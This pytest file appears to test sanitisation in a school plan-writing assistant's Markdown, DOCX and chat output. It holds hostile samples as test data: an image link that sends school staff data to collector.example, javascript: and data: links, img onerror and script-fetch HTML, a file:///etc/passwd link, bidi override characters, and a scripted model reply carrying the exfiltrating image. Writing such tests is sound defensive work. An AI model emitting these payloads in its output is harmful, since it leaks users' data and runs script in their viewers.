"""Finding 4 (medium): exported Markdown was not sanitised; and (finding 7) an RLO character survived in the school
name and title, and an upload's file name was shown through Markdown.

As found: model text accepted into a section went to the .md as it came — a live external image
`![x](http://…/collect?d=…)` (data leaves when the file is opened in any viewer), a `javascript:` link, mid-line raw
HTML; a school name `<img src=x onerror=…>` went raw into the title.
"""

from __future__ import annotations

import io
import re

import pytest
from docx import Document

from assistant.conversation.engine import Conversation
from assistant.conversation.session import Done, Reply, Session, Token
from assistant.domain.blocks import Heading, Paragraph, Signature, Table, Title
from assistant.domain.profile import Profile
from assistant.export.docx import docx_bytes
from assistant.export.markdown import md_text, render
from assistant.export.sanitize import unsafe_markup
from assistant.services import build_services
from assistant.settings import load_settings
from assistant.web import support as ui
from tests.events import run
from tests.fakes import ScriptedChatModel

EXFIL = "![x](http://collector.example/collect?d=江城市实验中学女教职工78人)"
HOSTILE = [
    EXFIL,
    "![统计图][1]\n[1]: http://collector.example/pixel.png",
    "[点击查看](javascript:alert(document.cookie))",
    "[附件](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "组织活动<img src=x onerror=alert(1)>并总结",
    "正文<script>fetch('http://collector.example')</script>结束",
    "<a href=\"file:///etc/passwd\">说明</a>",
    "<http://collector.example/autolink>",
    "<!-- 隐藏的说明 -->可见",
    "[![x](http://collector.example/i.png)](http://collector.example)",
]
BIDI = "\u202e\u202d\u2066\u2067\u2068\u2069\u200b\u200e\u200f\ufeff\x00\x1b"


def _document(text: str) -> list:
    return [Title(f"<img src=x onerror=alert(1)>江城中学{BIDI[0]}工作计划"), Heading("一、指导思想", 1),
            Paragraph(text), Table(("月份", "工作内容"), (("3月", text),)), Signature(("江城中学工会委员会", "2027年1月4日"))]


def _reaches_out(markdown: str) -> list[str]:
    """What a Markdown viewer would fetch, follow or run: images, links, autolinks, raw HTML (an independent check)."""
    patterns = [r"!\[[^\]]*\]\s*[\[(]", r"\]\(\s*[a-zA-Z][\w+.-]*:", r"^\s{0,3}\[[^\]]+\]:\s*\S", r"<[a-zA-Z/!][^>]*>"]
    body = markdown.replace("<!-- 落款 -->", "")
    return [p for p in patterns if re.search(p, body, re.MULTILINE)]


@pytest.mark.parametrize("text", HOSTILE)
def test_the_markdown_file_and_the_preview_cannot_reach_out(text):
    for markdown in (render(_document(text)), render(_document(text), preview=True)):
        assert _reaches_out(markdown) == []
        assert not any(ch in markdown for ch in BIDI)
        assert "collector.example/collect" not in markdown.replace("\\", "")  # the image URL is gone, not escaped
    assert unsafe_markup(text)  # the sanitiser knows what it removed (for a future checker report)


@pytest.mark.parametrize("text", HOSTILE)
def test_the_docx_holds_the_words_but_no_markup_or_control_characters(text):
    document = Document(io.BytesIO(docx_bytes(_document(text), load_settings())))
    everything = "\n".join(p.text for p in document.paragraphs) + "\n".join(
        c.text for t in document.tables for r in t.rows for c in r.cells)
    assert "<img" not in everything and "javascript:" not in everything and "](" not in everything
    assert not any(ch in everything for ch in BIDI)
    assert document.core_properties.title == "江城中学工作计划"
    assert not document.part.rels or all("hyperlink" not in r.reltype for r in document.part.rels.values())


def test_a_model_draft_with_an_exfiltrating_image_is_accepted_and_exported_clean(shared_settings, shared_index):
    # The attack as found: the model's section text carries a live image; the user accepts it and downloads.
    model = ScriptedChatModel().enqueue(f"1. 组织三八节活动{EXFIL}。\n2. 开展<img src=x onerror=alert(1)>慰问[详情](javascript:alert(1))。")
    services = build_services(shared_settings, model=model, index=shared_index)
    conversation = Conversation(services, Session())
    conversation.update_profile(Profile.from_dict({"school": "江城市实验中学", "year": 2027, "staff": 126}))
    run(conversation.propose("women"))
    run(conversation.accept())
    markdown = conversation.markdown()
    assert "组织三八节活动x" in markdown and "慰问详情" in markdown  # the words stay
    assert _reaches_out(markdown) == [] and "collector.example" not in markdown
    shown = render(conversation.plan.to_blocks(), preview=True)
    assert _reaches_out(shown) == []


def test_the_chat_shows_no_control_or_bidi_characters_and_no_markup():
    reply = Reply("好", "ask")
    stream = ui.ReplyStream([Token(f"工会{BIDI}工作"), Token(EXFIL), Done(reply)])
    shown = "".join(stream)
    assert not any(ch in shown for ch in BIDI)
    assert "![" not in shown.replace("\\!\\[", "")  # escaped: shown as text, never an image
    assert md_text("名称\u202e反转") == "名称反转"


def test_a_school_name_with_an_rlo_or_html_is_clean_in_the_title():
    profile = Profile.from_dict({"school": "江城\u202e实验中学", "year": 2027, "staff": 50})
    assert profile.school == "江城实验中学" and "\u202e" not in profile.plan_title
    profile = Profile.from_dict({"school": "<img src=x onerror=alert(1)>阳光小学", "year": 2027, "staff": 50})
    assert render([Title(profile.plan_title)]).startswith("# 阳光小学2027年")


def test_an_upload_name_is_shown_as_text_in_the_progress_line():
    name = "[点我](http://collector.example)![i](http://collector.example/p.png)\u202e.txt"
    line = ui.upload_progress(name, 1, 3)
    assert "](" not in line.replace("\\]\\(", "") and "\u202e" not in line
    assert line.endswith("（1/3）")
